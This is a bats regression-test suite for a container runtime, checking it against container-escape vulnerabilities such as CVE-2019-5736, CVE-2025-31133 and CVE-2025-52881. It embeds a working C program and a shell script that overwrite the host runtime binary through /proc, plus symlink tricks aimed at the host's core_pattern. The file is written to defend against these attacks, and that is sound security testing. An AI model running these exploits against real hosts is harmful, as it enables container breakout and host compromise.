#!/usr/bin/env bats
# Hostile bundles and containers: regression tests for container-escape
# classes. The runtime binary overwritten from a container (CVE-2019-5736),
# no process.capabilities, masked paths through a planted /dev/null
# (CVE-2025-31133), the runtime's /proc writes redirected by mounts over
# /proc (CVE-2025-52881), /proc or /sys a symlink in the rootfs, --no-pivot
# and a nested procfs/sysfs, host fds reaching the container.
#
# Each test passes against a safe runtime: it either refuses (nonzero exit,
# nothing left behind) or runs the container harmlessly. Nothing outside the
# test's TESTDIR is written by the tests themselves: the runtime binary
# attacked is a copy, and the host's core_pattern, which a broken runtime
# lets a container write, is checked and restored (the container writes
# harmless values: "1", "100", "|/nonexistent/bats-pwn"). runc 1.1 skips the
# /dev/null tests: it is vulnerable to CVE-2025-31133 (fixed in runc 1.2.8,
# 1.3.3).

load helpers

# --------------------------------------------------------------------------
# Host safety net
# --------------------------------------------------------------------------

# The host's core_pattern, recorded once per file: a broken runtime may let a
# container write it; teardown puts it back whatever the test did.
setup_file() {
	cat /proc/sys/kernel/core_pattern >"$BATS_FILE_TMPDIR/core_pattern"
	# the CVE-2019-5736 attacker (source below)
	printf '%s\n' "$ATTACK_C" >"$BATS_FILE_TMPDIR/attack.c"
	cc -static -O2 -o "$BATS_FILE_TMPDIR/attack" "$BATS_FILE_TMPDIR/attack.c"
}

setup() {
	setup_bundle
}

# sec_restore_core_pattern: put the host's core_pattern back if it changed;
# true if it had not.
sec_restore_core_pattern() {
	local saved
	saved="$(cat "$BATS_FILE_TMPDIR/core_pattern")"
	[ "$(cat /proc/sys/kernel/core_pattern)" = "$saved" ] && return 0
	printf '%s\n' "$saved" >/proc/sys/kernel/core_pattern
	return 1
}

# assert_core_pattern_unchanged: fails (after restoring it) if the host's
# core_pattern was changed.
assert_core_pattern_unchanged() {
	local now
	now="$(cat /proc/sys/kernel/core_pattern)"
	if ! sec_restore_core_pattern; then
		echo "HOST ESCAPE: /proc/sys/kernel/core_pattern was changed to '$now' (restored)" >&2
		return 1
	fi
}

teardown() {
	local rc=0
	if [ -n "${BATS_FILE_TMPDIR:-}" ] && [ -s "$BATS_FILE_TMPDIR/core_pattern" ]; then
		sec_restore_core_pattern || {
			echo "teardown: host core_pattern was changed (restored)" >&2
			rc=1
		}
	fi
	teardown_bundle || rc=1
	return $rc
}

# --------------------------------------------------------------------------
# Helpers
# --------------------------------------------------------------------------

# applets NAME...: busybox applet links in the rootfs.
applets() {
	local a
	for a in "$@"; do ln -sf busybox "$ROOTFS/bin/$a"; done
}

# caps_of TEXT: the five Cap* lines of /proc/<pid>/status, as NAME=HEX words.
caps_of() {
	awk '/^Cap(Inh|Prm|Eff|Bnd|Amb):/ { printf "%s=%s ", substr($1, 1, 6), $2 }' <<<"$1"
}

assert_all_caps_zero() {
	local caps z=0000000000000000
	caps="$(caps_of "$1")"
	assert_equal "$caps" "CapInh=$z CapPrm=$z CapEff=$z CapBnd=$z CapAmb=$z "
}

# no_dev_mounts: drop the /dev tmpfs and every mount under /dev, so the
# container uses the rootfs's own /dev.
no_dev_mounts() {
	update_config '.mounts |= map(select(.destination != "/dev" and (.destination | startswith("/dev/") | not)))'
}

# --------------------------------------------------------------------------
# CVE-2019-5736: the host runtime binary must not be writable from a
# container, even when the container runs it (#!/proc/self/exe)
# --------------------------------------------------------------------------

# The attacker, run in the container: it scans every pid of its pid
# namespace, and for each /proc/<pid>/exe (and executable /proc/<pid>/fd/*)
# that is neither busybox nor itself, it tries to open it for writing, keeps
# an fd on it (and kills the process, so nothing runs the binary any more),
# then keeps trying to reopen that fd for writing through /proc/self/fd/N
# and to write "PWNED!" at offset 0. Log: DIR/attack.log. If DIR/ping exists
# when a scan starts, it is renamed DIR/pong after that scan. Runs until
# DIR/stop exists (or 30 s), retries writes for 0.5 s more, creates DIR/done.
# It leaves alone the busybox attacker (pid in DIR/sh.pid).
ATTACK_C='
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAXH 64
static struct { int fd; dev_t dev; ino_t ino; int written; char what[128]; } held[MAXH];
static int nheld;
static struct stat self_st, bb_st;
static pid_t other; /* the busybox attacker */
static const char *dir;
static FILE *logf;

static int same(const struct stat *a, const struct stat *b) { return a->st_dev == b->st_dev && a->st_ino == b->st_ino; }
static void path_in(char *p, size_t n, const char *name) { snprintf(p, n, "%s/%s", dir, name); }
static int exists(const char *name) { char p[256]; path_in(p, sizeof p, name); return access(p, F_OK) == 0; }
static void touch(const char *name) {
	char p[256]; path_in(p, sizeof p, name);
	int fd = open(p, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
	if (fd >= 0) close(fd);
}
static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }

static void try_write(int i) {
	char p[64];
	snprintf(p, sizeof p, "/proc/self/fd/%d", held[i].fd);
	int w = open(p, O_WRONLY | O_CLOEXEC);
	if (w < 0) return; /* ETXTBSY while it runs; EACCES, EPERM, EROFS: safe */
	if (pwrite(w, "PWNED!", 6, 0) == 6) { fprintf(logf, "WROTE %s\n", held[i].what); held[i].written = 1; }
	close(w);
}

static void grab(const char *path, pid_t pid, int kill_it) {
	struct stat st;
	if (stat(path, &st) < 0 || !S_ISREG(st.st_mode) || same(&st, &self_st) || same(&st, &bb_st)) return;
	int w = open(path, O_WRONLY | O_CLOEXEC);
	if (w >= 0) {
		if (pwrite(w, "PWNED!", 6, 0) == 6) fprintf(logf, "WROTE-DIRECT %s\n", path);
		close(w);
	}
	for (int i = 0; i < nheld; i++)
		if (held[i].dev == st.st_dev && held[i].ino == st.st_ino) return;
	if (nheld == MAXH) return;
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0) fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0) return;
	char target[96] = "";
	if (readlink(path, target, sizeof target - 1) < 0) strcpy(target, "?");
	held[nheld].fd = fd; held[nheld].dev = st.st_dev; held[nheld].ino = st.st_ino; held[nheld].written = 0;
	snprintf(held[nheld].what, sizeof held[nheld].what, "%s -> %s", path, target);
	fprintf(logf, "GRABBED %s\n", held[nheld].what);
	nheld++;
	if (kill_it) kill(pid, SIGKILL);
}

static void load_other(void) {
	char p[256];
	int v;
	path_in(p, sizeof p, "sh.pid");
	FILE *f = fopen(p, "r");
	if (!f) return;
	if (fscanf(f, "%d", &v) == 1) other = v;
	fclose(f);
}

static void scan(void) {
	if (!other) load_other();
	DIR *d = opendir("/proc");
	if (!d) return;
	struct dirent *e;
	pid_t me = getpid();
	while ((e = readdir(d))) {
		pid_t pid = atoi(e->d_name);
		if (pid <= 0 || pid == me || pid == other) continue;
		char p[64], q[128];
		struct stat st;
		snprintf(p, sizeof p, "/proc/%d/exe", pid);
		grab(p, pid, 1);
		snprintf(p, sizeof p, "/proc/%d/fd", pid);
		DIR *fds = opendir(p);
		if (!fds) continue;
		struct dirent *f;
		while ((f = readdir(fds))) {
			if (f->d_name[0] == 46) continue;
			snprintf(q, sizeof q, "%s/%s", p, f->d_name);
			if (stat(q, &st) == 0 && S_ISREG(st.st_mode) && (st.st_mode & 0111)) grab(q, pid, 0);
		}
		closedir(fds);
	}
	closedir(d);
}

int main(int argc, char **argv) {
	char lp[256], ping[256], pong[256];
	if (argc < 2) return 2;
	dir = argv[1];
	path_in(lp, sizeof lp, "attack.log");
	path_in(ping, sizeof ping, "ping");
	path_in(pong, sizeof pong, "pong");
	logf = fopen(lp, "a");
	if (!logf) return 1;
	setvbuf(logf, NULL, _IOLBF, 0);
	stat("/proc/self/exe", &self_st);
	stat("/bin/busybox", &bb_st);
	touch("ready");
	double deadline = now() + 30;
	while (!exists("stop") && now() < deadline) {
		int pinged = exists("ping");
		scan();
		for (int i = 0; i < nheld; i++) if (!held[i].written) try_write(i);
		if (pinged) rename(ping, pong);
	}
	for (int k = 0; k < 50; k++) {
		for (int i = 0; i < nheld; i++) if (!held[i].written) try_write(i);
		usleep(10000);
	}
	fprintf(logf, "attack-done grabbed=%d\n", nheld);
	fclose(logf);
	touch("done");
	return 0;
}
'

# The same with busybox sh only (bounded: 2000 rounds): every foreign
# /proc/<pid>/exe and executable /proc/<pid>/fd/*, written directly and
# through a kept fd 3. Answers /shared/shping with /shared/shpong. Leaves
# the C attacker (/shared/c.pid) alone.
SHATTACK='
bb=$(stat -L -c %d:%i /bin/busybox)
me=$(stat -L -c %d:%i /attack)
c=$(cat /shared/c.pid)
held=
echo $$ >/shared/sh.pid
touch /shared/sh-ready
for i in $(seq 2000); do
	[ -e /shared/stop ] && break
	pinged=
	[ -e /shared/shping ] && pinged=1
	for p in /proc/[0-9]*; do
		[ "${p#/proc/}" = "$$" ] || [ "${p#/proc/}" = "$c" ] && continue
		for f in $p/exe $p/fd/*; do
			[ -f "$f" ] && [ -x "$f" ] || continue
			id=$(stat -L -c %d:%i "$f" 2>/dev/null) || continue
			[ "$id" = "$bb" ] || [ "$id" = "$me" ] && continue
			printf x 2>/dev/null >>"$f" && echo "SH-WROTE-DIRECT $f" >>/shared/attack.log
			if [ -z "$held" ] && (: <"$f") 2>/dev/null; then
				exec 3<"$f" && held=$f && echo "SH-GRABBED $f" >>/shared/attack.log
			fi
		done
	done
	if [ -n "$held" ] && printf x 2>/dev/null >>/proc/self/fd/3; then
		echo "SH-WROTE $held" >>/shared/attack.log
		exec 3<&-
		held=
	fi
	[ -n "$pinged" ] && mv /shared/shping /shared/shpong
done
if [ -n "$held" ]; then
	printf x 2>/dev/null >>/proc/self/fd/3 && echo "SH-WROTE $held" >>/shared/attack.log
fi
touch /shared/sh-done
'

# exe_attack_setup: copy the runtime to $RT_COPY (hashes recorded), put the
# attackers and the #!/proc/self/exe script (/evil) in the rootfs, and start
# the attacker container $ATTACKER (its init runs both attackers) with
# $TESTDIR/shared at /shared; waits until the attackers run. Every container
# of these tests is run by the copy: the real binary never is.
exe_attack_setup() {
	RT_COPY="$TESTDIR/rt-copy"
	cp "$RUNTIME" "$RT_COPY"
	chmod 755 "$RT_COPY"
	RT_COPY_SHA=$(sha256sum <"$RT_COPY")
	RT_SHA=$(sha256sum <"$RUNTIME")
	cp "$BATS_FILE_TMPDIR/attack" "$ROOTFS/attack"
	printf '%s\n' "$SHATTACK" >"$ROOTFS/shattack"
	printf '#!/proc/self/exe\n' >"$ROOTFS/evil"
	chmod 755 "$ROOTFS/evil" "$ROOTFS/attack"
	applets stat touch seq mv
	mkdir "$TESTDIR/shared"
	update_config '.mounts += [{"destination": "/shared", "type": "bind", "source": $s, "options": ["rbind", "rw"]}]' \
		--arg s "$TESTDIR/shared"
	set_args sh -c '/attack /shared & echo $! >/shared/c.pid; sh /shattack & wait; sleep 1000'
	ATTACKER=$(unique_id)
	(
		_close_fds
		exec "$RT_COPY" --root "$ROOT" run -d --bundle "$BUNDLE" "$ATTACKER"
	) </dev/null >"$TESTDIR/attacker.out" 2>"$TESTDIR/attacker.err"
	wait_until 10 test -e "$TESTDIR/shared/ready"
	wait_until 10 test -e "$TESTDIR/shared/sh-ready"
}

# exe_attack_finish: stop the attackers, then check both binaries.
exe_attack_finish() {
	touch "$TESTDIR/shared/stop"
	wait_until 20 test -e "$TESTDIR/shared/done"
	# (the busybox-only attacker is best-effort: see attackers_sync)
	wait_until 20 test -e "$TESTDIR/shared/sh-done" 2>/dev/null || true
	echo "attack log (count, line):" >&2
	sort "$TESTDIR/shared/attack.log" | uniq -c | head -n 40 >&2
	if [ "$(sha256sum <"$RT_COPY")" != "$RT_COPY_SHA" ]; then
		echo "HOST ESCAPE: the runtime binary (a copy: $RT_COPY) was overwritten from the container" >&2
		return 1
	fi
	assert_equal "$(sha256sum <"$RUNTIME")" "$RT_SHA"
}

# full_pipe_open: $TESTDIR/full is a fifo whose pipe is full: whatever
# writes there blocks until full_pipe_release. This keeps a process running
# the runtime binary in the container (it prints its usage error) alive for
# as long as the attackers need, instead of a millisecond.
full_pipe_open() {
	rm -f "$TESTDIR/full"
	mkfifo "$TESTDIR/full"
	exec {FULL_FD}<>"$TESTDIR/full"
	dd if=/dev/zero of="$TESTDIR/full" bs=4096 count=256 oflag=nonblock status=none 2>/dev/null || true
}

# full_pipe_release: the pipe loses its only reader: a blocked writer gets
# EPIPE (SIGPIPE).
full_pipe_release() {
	exec {FULL_FD}>&-
}

blocked_or_gone() {
	! pid_alive "$1" || grep -q pipe_write "/proc/$1/wchan" 2>/dev/null
}

# attackers_sync: both attackers made at least one whole pass since now.
attackers_sync() {
	touch "$TESTDIR/shared/ping" "$TESTDIR/shared/shping"
	wait_until 10 test -e "$TESTDIR/shared/pong"
	# The busybox-only attacker is a second opinion, slow under load (it
	# forks for every fd it looks at): wait for it a while, not for ever.
	wait_until 20 test -e "$TESTDIR/shared/shpong" -o -e "$TESTDIR/shared/sh-done" 2>/dev/null || true
	rm -f "$TESTDIR/shared/pong" "$TESTDIR/shared/shpong" "$TESTDIR/shared/shping"
}

# evil_run PID-FILE ARGS...: run the runtime copy with ARGS (with
# --pid-file PID-FILE among them) and its stdio on the full pipe (the
# container process inherits it); once that process (the one running /evil)
# blocks or is gone, let both attackers make a pass, then release it. With
# EVIL_START set, `start` that container first.
evil_run() {
	local pidfile=$1 pid rt
	shift
	rm -f "$pidfile"
	full_pipe_open
	(
		_close_fds
		exec "$RT_COPY" --root "$ROOT" "$@"
	) </dev/null >"$TESTDIR/full" 2>&1 &
	rt=$!
	echo "$rt" >>"$TESTDIR/bg.pids"
	# (a runtime printing an error blocks too)
	wait_until 20 blocked_or_gone "$rt" || true
	pid=$(cat "$pidfile" 2>/dev/null) || true
	if [ -n "$pid" ] && [ -n "${EVIL_START:-}" ]; then
		_rtc start "$EVIL_START" >/dev/null 2>&1 || true
	fi
	if [ -n "$pid" ]; then
		wait_until 10 blocked_or_gone "$pid" || true
		attackers_sync
	fi
	full_pipe_release
	wait "$rt" || true
	sed -i "/^$rt\$/d" "$TESTDIR/bg.pids"
	if [ -n "$pid" ]; then
		wait_until 10 gone "$pid"
	fi
}

gone() { ! pid_alive "$1"; }

_rtc() {
	(
		_close_fds
		exec "$RT_COPY" --root "$ROOT" "$@"
	) </dev/null
}

# evil_exec: `exec -d ATTACKER /evil`.
evil_exec() {
	EVIL_START='' evil_run "$TESTDIR/evil.pid" exec -d --pid-file "$TESTDIR/evil.pid" "$ATTACKER" /evil
}

# evil_init: create + start a container whose init is /evil, in the
# attacker's pid namespace.
evil_init() {
	local id
	id=$(unique_id)
	EVIL_START=$id evil_run "$TESTDIR/evil.pid" create --pid-file "$TESTDIR/evil.pid" --bundle "$TESTDIR/evil-bundle" "$id"
	wait_for_status "$id" stopped || true
	_rt delete --force "$id" >/dev/null 2>&1 || true
}

# run_evil_until_grabbed CMD: CMD up to twice, until the attacker got hold
# of a binary (once is enough when the process blocks as planned).
run_evil_until_grabbed() {
	local n
	for n in 1 2; do
		"$@"
		grep -q GRABBED "$TESTDIR/shared/attack.log" 2>/dev/null && return 0
	done
	return 0
}

@test "security: CVE-2019-5736: exec of a #!/proc/self/exe program cannot overwrite the runtime binary" {
	exe_attack_setup
	run_evil_until_grabbed evil_exec
	exe_attack_finish
}

@test "security: CVE-2019-5736: a #!/proc/self/exe init (create + start) cannot overwrite the runtime binary" {
	exe_attack_setup
	apid=$(container_pid "$ATTACKER")
	[ -n "$apid" ]
	# its own bundle (same rootfs), in the attacker's pid namespace
	mkdir "$TESTDIR/evil-bundle"
	jq --arg r "$ROOTFS" --arg ns "/proc/$apid/ns/pid" '.root.path = $r
		| .process.args = ["/evil"]
		| .linux.namespaces |= map(if .type == "pid" then .path = $ns else . end)
		| .mounts |= map(select(.destination != "/shared"))' \
		"$BUNDLE/config.json" >"$TESTDIR/evil-bundle/config.json"
	run_evil_until_grabbed evil_init
	exe_attack_finish
}

@test "security: CVE-2019-5736: the sealed-memfd fallback protects the binary too (exec)" {
	skip_unless_apus "APUS_EXE_SEAL=memfd forces apus's fallback protection"
	export APUS_EXE_SEAL=memfd
	exe_attack_setup
	run_evil_until_grabbed evil_exec
	exe_attack_finish
}

# --------------------------------------------------------------------------
# No process.capabilities: no capabilities at all
# --------------------------------------------------------------------------

@test "security: no process.capabilities -> the container has no capabilities" {
	update_config 'del(.process.capabilities)'
	set_args sh -c 'grep ^Cap /proc/self/status'
	runtime run --bundle "$BUNDLE" "$(unique_id)"
	assert_status 0
	assert_all_caps_zero "$output"
}

@test "security: exec -p without capabilities, in a container without them -> no capabilities" {
	update_config 'del(.process.capabilities)'
	id=$(unique_id)
	create_and_start "$id"
	jq '.process | del(.capabilities) | .args = ["sh", "-c", "grep ^Cap /proc/self/status"] | .terminal = false' \
		"$BUNDLE/config.json" >"$TESTDIR/process.json"
	runtime exec -p "$TESTDIR/process.json" "$id"
	assert_status 0
	assert_all_caps_zero "$output"
}

@test "security: exec -p without capabilities gets no more than the container's capabilities" {
	# runc gives such a process the container's own set; none is also fine.
	id=$(unique_id)
	create_and_start "$id"
	pid=$(container_pid "$id")
	bnd=$(awk '/^CapBnd:/ { print $2 }' "/proc/$pid/status")
	jq '.process | del(.capabilities) | .args = ["sh", "-c", "grep ^Cap /proc/self/status"] | .terminal = false' \
		"$BUNDLE/config.json" >"$TESTDIR/process.json"
	runtime exec -p "$TESTDIR/process.json" "$id"
	assert_status 0
	for set in CapPrm CapEff CapBnd CapAmb CapInh; do
		v=$(awk -v s="$set:" '$1 == s { print $2 }' <<<"$output")
		[ -n "$v" ]
		# no bit outside the container's bounding set
		if (((16#$v & ~16#$bnd) != 0)); then
			echo "$set=$v has capabilities outside the container's bounding set $bnd" >&2
			return 1
		fi
	done
}

# --------------------------------------------------------------------------
# Masked paths with a hostile /dev/null in the rootfs (CVE-2025-31133)
# --------------------------------------------------------------------------

# MASK_PROBE: what the container sees of the masked /proc/keys: its size
# (at most 16 bytes read), then again after trying to write it. (No
# /dev/null in it: that may be what the test planted.)
MASK_PROBE='echo "before=$(head -c 16 /proc/keys | wc -c)"
echo "|/nonexistent/bats-pwn" >/proc/keys && echo write-ok || echo write-failed
echo "after=$(head -c 16 /proc/keys | wc -c)"
echo mask-done'

# hostile_dev_null_setup: no /dev mount (the rootfs's /dev is used, with
# /dev/null as the test made it), /proc/keys masked, and MASK_PROBE.
hostile_dev_null_setup() {
	applets wc
	no_dev_mounts
	update_config '.linux.maskedPaths |= ((. // []) + ["/proc/keys"] | unique)'
	set_args sh -c "$MASK_PROBE"
}

# assert_masked_or_refused: the runtime refused (nothing left behind), or
# the masked /proc/keys read empty before and after the write.
assert_masked_or_refused() {
	if [ "$status" -ne 0 ]; then
		assert_root_empty
		return 0
	fi
	assert_output_contains mask-done
	assert_output_contains "before=0"
	assert_output_contains "after=0"
}

@test "security: masked paths: /dev/null a symlink to /proc/sys/kernel/core_pattern" {
	if is_runc_before_1_2; then
		# (it reopens the container's stdio on that "/dev/null": the host's core_pattern)
		skip "runc < 1.2 follows a /dev/null symlink (CVE-2025-31133)"
	fi
	ln -s /proc/sys/kernel/core_pattern "$ROOTFS/dev/null"
	hostile_dev_null_setup
	runtime run --bundle "$BUNDLE" "$(unique_id)"
	assert_core_pattern_unchanged
	assert_masked_or_refused
}

@test "security: masked paths: /dev/null a regular file in the rootfs" {
	if is_runc_before_1_2; then
		skip "runc < 1.2 masks with (and reopens stdio on) a regular /dev/null (CVE-2025-31133)"
	fi
	echo rootfs-dev-null >"$ROOTFS/dev/null"
	hostile_dev_null_setup
	runtime run --bundle "$BUNDLE" "$(unique_id)"
	assert_equal "$(cat "$ROOTFS/dev/null")" rootfs-dev-null
	assert_masked_or_refused
}

@test "security: masked paths: /dev/null another device (1:5, zero) in the rootfs" {
	if is_runc_before_1_2; then
		skip "runc < 1.2 masks with whatever device /dev/null is (CVE-2025-31133)"
	fi
	mknod -m 666 "$ROOTFS/dev/null" c 1 5
	hostile_dev_null_setup
	runtime run --bundle "$BUNDLE" "$(unique_id)"
	assert_masked_or_refused
}

@test "security: masked paths read empty and writes to them change nothing (default /dev)" {
	applets wc
	update_config '.linux.maskedPaths |= ((. // []) + ["/proc/keys", "/proc/kcore", "/proc/timer_list", "/proc/acpi", "/sys/firmware"] | unique)'
	set_args sh -c "$MASK_PROBE"'
		for f in /proc/kcore /proc/timer_list; do echo "$f=$(head -c 16 $f | wc -c)"; done
		for d in /proc/acpi /sys/firmware; do [ -d $d ] && echo "$d=$(ls -A $d | wc -l)"; done
		touch /proc/acpi/x 2>/dev/null && echo acpi-writable || echo acpi-ro'
	runtime run --bundle "$BUNDLE" "$(unique_id)"
	assert_status 0
	assert_core_pattern_unchanged
	assert_output_contains mask-done
	assert_output_contains "before=0"
	assert_output_contains "after=0"
	assert_output_contains "/proc/kcore=0"
	assert_output_contains "/proc/timer_list=0"
	[[ "$output" != *"/proc/acpi="[1-9]* ]]
	[[ "$output" != *"/sys/firmware="[1-9]* ]]
	[[ "$output" != *acpi-writable* ]]
}

# --------------------------------------------------------------------------
# The runtime's own /proc writes must reach procfs, not files the bundle
# mounted over /proc (CVE-2025-52881)
# --------------------------------------------------------------------------

# proc_overlay_mount DEST SOURCE: a bind mount of bundle path SOURCE over
# DEST, after the /proc mount.
proc_overlay_mount() {
	update_config '.mounts += [{"destination": $d, "type": "bind", "source": $s, "options": ["rbind"]}]' \
		--arg d "$1" --arg s "$2"
}

@test "security: linux.sysctl applies in the container's network namespace only" {
	host=$(cat /proc/sys/net/ipv4/ip_forward)
	want=$((1 - host))
	update_config '.linux.sysctl = {"net.ipv4.ip_forward": $v}' --arg v "$want"
	set_args cat /proc/sys/net/ipv4/ip_forward
	runtime run --bundle "$BUNDLE" "$(unique_id)"
	assert_status 0
	assert_equal "$output" "$want"
	assert_equal "$(cat /proc/sys/net/ipv4/ip_forward)" "$host"
}

@test "security: linux.sysctl: a symlink planted over /proc/sys (-> core_pattern) is not followed" {
	mkdir "$BUNDLE/fakesys"
	ln -s /proc/sys/kernel/core_pattern "$BUNDLE/fakesys/ip_forward"
	proc_overlay_mount /proc/sys/net/ipv4 fakesys
	update_config '.linux.sysctl = {"net.ipv4.ip_forward": "1"}'
	set_args true
	runtime run --bundle "$BUNDLE" "$(unique_id)"
	assert_core_pattern_unchanged
	[ "$(readlink "$BUNDLE/fakesys/ip_forward")" = /proc/sys/kernel/core_pattern ]
	[ "$status" -eq 0 ] || assert_root_empty
}

@test "security: linux.sysctl: a regular file planted over /proc/sys is not written" {
	mkdir "$BUNDLE/fakesys"
	echo planted >"$BUNDLE/fakesys/ip_forward"
	proc_overlay_mount /proc/sys/net/ipv4 fakesys
	update_config '.linux.sysctl = {"net.ipv4.ip_forward": "1"}'
	set_args true
	runtime run --bundle "$BUNDLE" "$(unique_id)"
	assert_equal "$(cat "$BUNDLE/fakesys/ip_forward")" planted
	[ "$status" -eq 0 ] || assert_root_empty
}

@test "security: a faked /proc/sys/kernel/cap_last_cap does not leave capabilities undropped" {
	echo 5 >"$BUNDLE/fake-cap-last-cap"
	proc_overlay_mount /proc/sys/kernel/cap_last_cap fake-cap-last-cap
	update_config '.process.capabilities = {"bounding": ["CAP_KILL"], "effective": ["CAP_KILL"], "permitted": ["CAP_KILL"], "inheritable": [], "ambient": []}'
	set_args sh -c 'grep ^Cap /proc/self/status'
	runtime run --bundle "$BUNDLE" "$(unique_id)"
	if [ "$status" -ne 0 ]; then
		assert_root_empty
		return 0
	fi
	z=0000000000000000 k=0000000000000020
	assert_equal "$(caps_of "$output")" "CapInh=$z CapPrm=$k CapEff=$k CapBnd=$k CapAmb=$z "
	assert_equal "$(cat "$BUNDLE/fake-cap-last-cap")" 5
}

@test "security: process.oomScoreAdj applies (host view)" {
	update_config '.process.oomScoreAdj = 123'
	id=$(unique_id)
	create_and_start "$id"
	assert_equal "$(cat "/proc/$(container_pid "$id")/oom_score_adj")" 123
}

@test "security: process.oomScoreAdj: a file bound over /proc/self/oom_score_adj is not written" {
	echo 7 >"$BUNDLE/fake-oom"
	proc_overlay_mount /proc/self/oom_score_adj fake-oom
	update_config '.process.oomScoreAdj = 100'
	id=$(unique_id)
	create_container "$id"
	assert_equal "$(cat "$BUNDLE/fake-oom")" 7
	if [ "$status" -ne 0 ]; then
		assert_root_empty
		return 0
	fi
	# it ran: then the container's real score is the one asked for
	assert_equal "$(cat "/proc/$(container_pid "$id")/oom_score_adj")" 100
}

@test "security: process.oomScoreAdj: a directory bound over /proc/self (oom_score_adj -> core_pattern) is not followed" {
	mkdir "$BUNDLE/fakepid"
	ln -s /proc/sys/kernel/core_pattern "$BUNDLE/fakepid/oom_score_adj"
	proc_overlay_mount /proc/self fakepid
	# (no read-only /proc/sys to stop the write)
	update_config '.process.oomScoreAdj = 100 | .linux.readonlyPaths = []'
	id=$(unique_id)
	create_container "$id"
	assert_core_pattern_unchanged
	[ "$(readlink "$BUNDLE/fakepid/oom_score_adj")" = /proc/sys/kernel/core_pattern ]
	[ "$status" -eq 0 ] || assert_root_empty
}
# --------------------------------------------------------------------------
# /proc or /sys a symlink in the rootfs; --no-pivot and a nested procfs
# --------------------------------------------------------------------------

# symlinked_mount_point DIR LINK IN-ROOT: rootfs/DIR is a symlink to LINK,
# which names IN-ROOT (an empty directory) when resolved in the rootfs; a
# relative LINK resolved on the host names another empty directory. The
# runtime must refuse to mount proc/sysfs there and leave no container: a
# container that runs lists IN-ROOT, where it would find the mount.
symlinked_mount_point() {
	local dir=$1 link=$2 inroot=$3 id host_side=""
	rmdir "$ROOTFS/$dir"
	mkdir -p "$ROOTFS$inroot"
	if [[ "$link" != /* ]]; then
		host_side="$ROOTFS/$link"
		mkdir -p "$host_side"
	fi
	ln -s "$link" "$ROOTFS/$dir"
	set_args sh -c "ls -A $inroot; echo listed"
	id=$(unique_id)
	runtime run --bundle "$BUNDLE" "$id"
	if [ "$status" -eq 0 ]; then
		echo "the runtime ran a container whose /$dir is a symlink to $link; output:" >&2
		echo "$output" >&2
		return 1
	fi
	assert_root_empty
	[ -z "$(_rt list -q 2>/dev/null)" ]
	[ "$(readlink "$ROOTFS/$dir")" = "$link" ]
	[ -z "$(ls -A "$ROOTFS$inroot")" ]
	[ -z "$host_side" ] || [ -z "$(ls -A "$host_side")" ]
}

@test "security: a rootfs whose /proc is a symlink is refused" {
	symlinked_mount_point proc /tmp/fakeproc /tmp/fakeproc
}

@test "security: a rootfs whose /proc is a relative symlink leading out of the rootfs is refused" {
	# in the rootfs ../fakeproc is /fakeproc; on the host, $BUNDLE/fakeproc
	symlinked_mount_point proc ../fakeproc /fakeproc
}

@test "security: a rootfs whose /sys is a symlink is refused" {
	symlinked_mount_point sys /tmp/fakesys /tmp/fakesys
}

# NESTED_PROCFS: as an unprivileged user (uid 1000, no capabilities), make a
# new user (mapped root), mount and pid namespace and try to mount a fresh
# procfs there; prints MOUNTED if that worked. The kernel allows it only if a
# fully visible procfs is in the mount namespace (mount_too_revealing): the
# container's own /proc has masked paths, so only a host procfs left
# reachable would let it through. "userns-ok" shows the test is not vacuous.
NESTED_PROCFS='unshare -U -r -m -p -f sh -c "echo userns-ok; mkdir -p /tmp/p && mount -t proc proc /tmp/p && echo MOUNTED"; echo nested-done'
# The same for sysfs (needs a network namespace owned by the new user namespace).
NESTED_SYSFS='unshare -U -r -m -n sh -c "echo userns-ok; mkdir -p /tmp/s && mount -t sysfs sysfs /tmp/s && echo MOUNTED"; echo nested-done'

# nested_mount_setup CMD
nested_mount_setup() {
	applets unshare mkdir
	# (uid 0 would need CAP_SETFCAP to map itself as root in the new namespace)
	update_config 'del(.linux.seccomp) | .process.user = {"uid": 1000, "gid": 1000}'
	set_args sh -c "$1"
}

# assert_not_mounted: the nested command ran, and its mount failed.
assert_not_mounted() {
	assert_output_contains userns-ok
	assert_output_contains nested-done
	if [[ "$output" == *MOUNTED* ]]; then
		echo "a fresh proc/sysfs could be mounted from a nested user namespace (a full host one is still reachable):" >&2
		echo "$output" >&2
		return 1
	fi
}

@test "security: --no-pivot: a nested user namespace cannot mount a fresh procfs" {
	nested_mount_setup "$NESTED_PROCFS"
	runtime run --no-pivot --bundle "$BUNDLE" "$(unique_id)"
	assert_not_mounted
}

@test "security: --no-pivot: a nested user namespace cannot mount a fresh sysfs" {
	nested_mount_setup "$NESTED_SYSFS"
	runtime run --no-pivot --bundle "$BUNDLE" "$(unique_id)"
	assert_not_mounted
}

@test "security: (control) with pivot_root a nested user namespace cannot mount a fresh procfs or sysfs" {
	nested_mount_setup "$NESTED_PROCFS"
	runtime run --bundle "$BUNDLE" "$(unique_id)"
	assert_not_mounted
	nested_mount_setup "$NESTED_SYSFS"
	runtime run --bundle "$BUNDLE" "$(unique_id)"
	assert_not_mounted
}

# --------------------------------------------------------------------------
# Host fds held by the caller do not reach the container
# --------------------------------------------------------------------------

# HOST_FD_DIRS: what fds 3..9 of the runtime are open on.
HOST_FD_DIRS=(/ /etc /tmp /root /proc /sys /dev)

# _rt_with_host_fds OUT ERR ARGS...: the runtime with stdio to files and
# fds 3..9 open on host directories (bats's own fds closed first).
_rt_with_host_fds() {
	local out=$1 err=$2
	shift 2
	(
		_close_fds
		exec 3</ 4</etc 5</tmp 6</root 7</proc 8</sys 9</dev
		exec "$RUNTIME" --root "$ROOT" "$@"
	) </dev/null >"$out" 2>"$err"
}

# fd_report PID: shell code printing what a process in the container sees
# of its own fds ("fds: 0 1 2 3", 3 being ls's directory) and, from a child
# (so the shell holds no pipe or saved fd meanwhile), `ls -l` of PID's fds.
fd_report() {
	echo "echo fds: \$(ls /proc/self/fd); sh -c 'ls -l /proc/$1/fd/'; echo report-done"
}
FD_REPORT="$(fd_report 1)"

# assert_no_host_fds TEXT
assert_no_host_fds() {
	local text=$1 line d
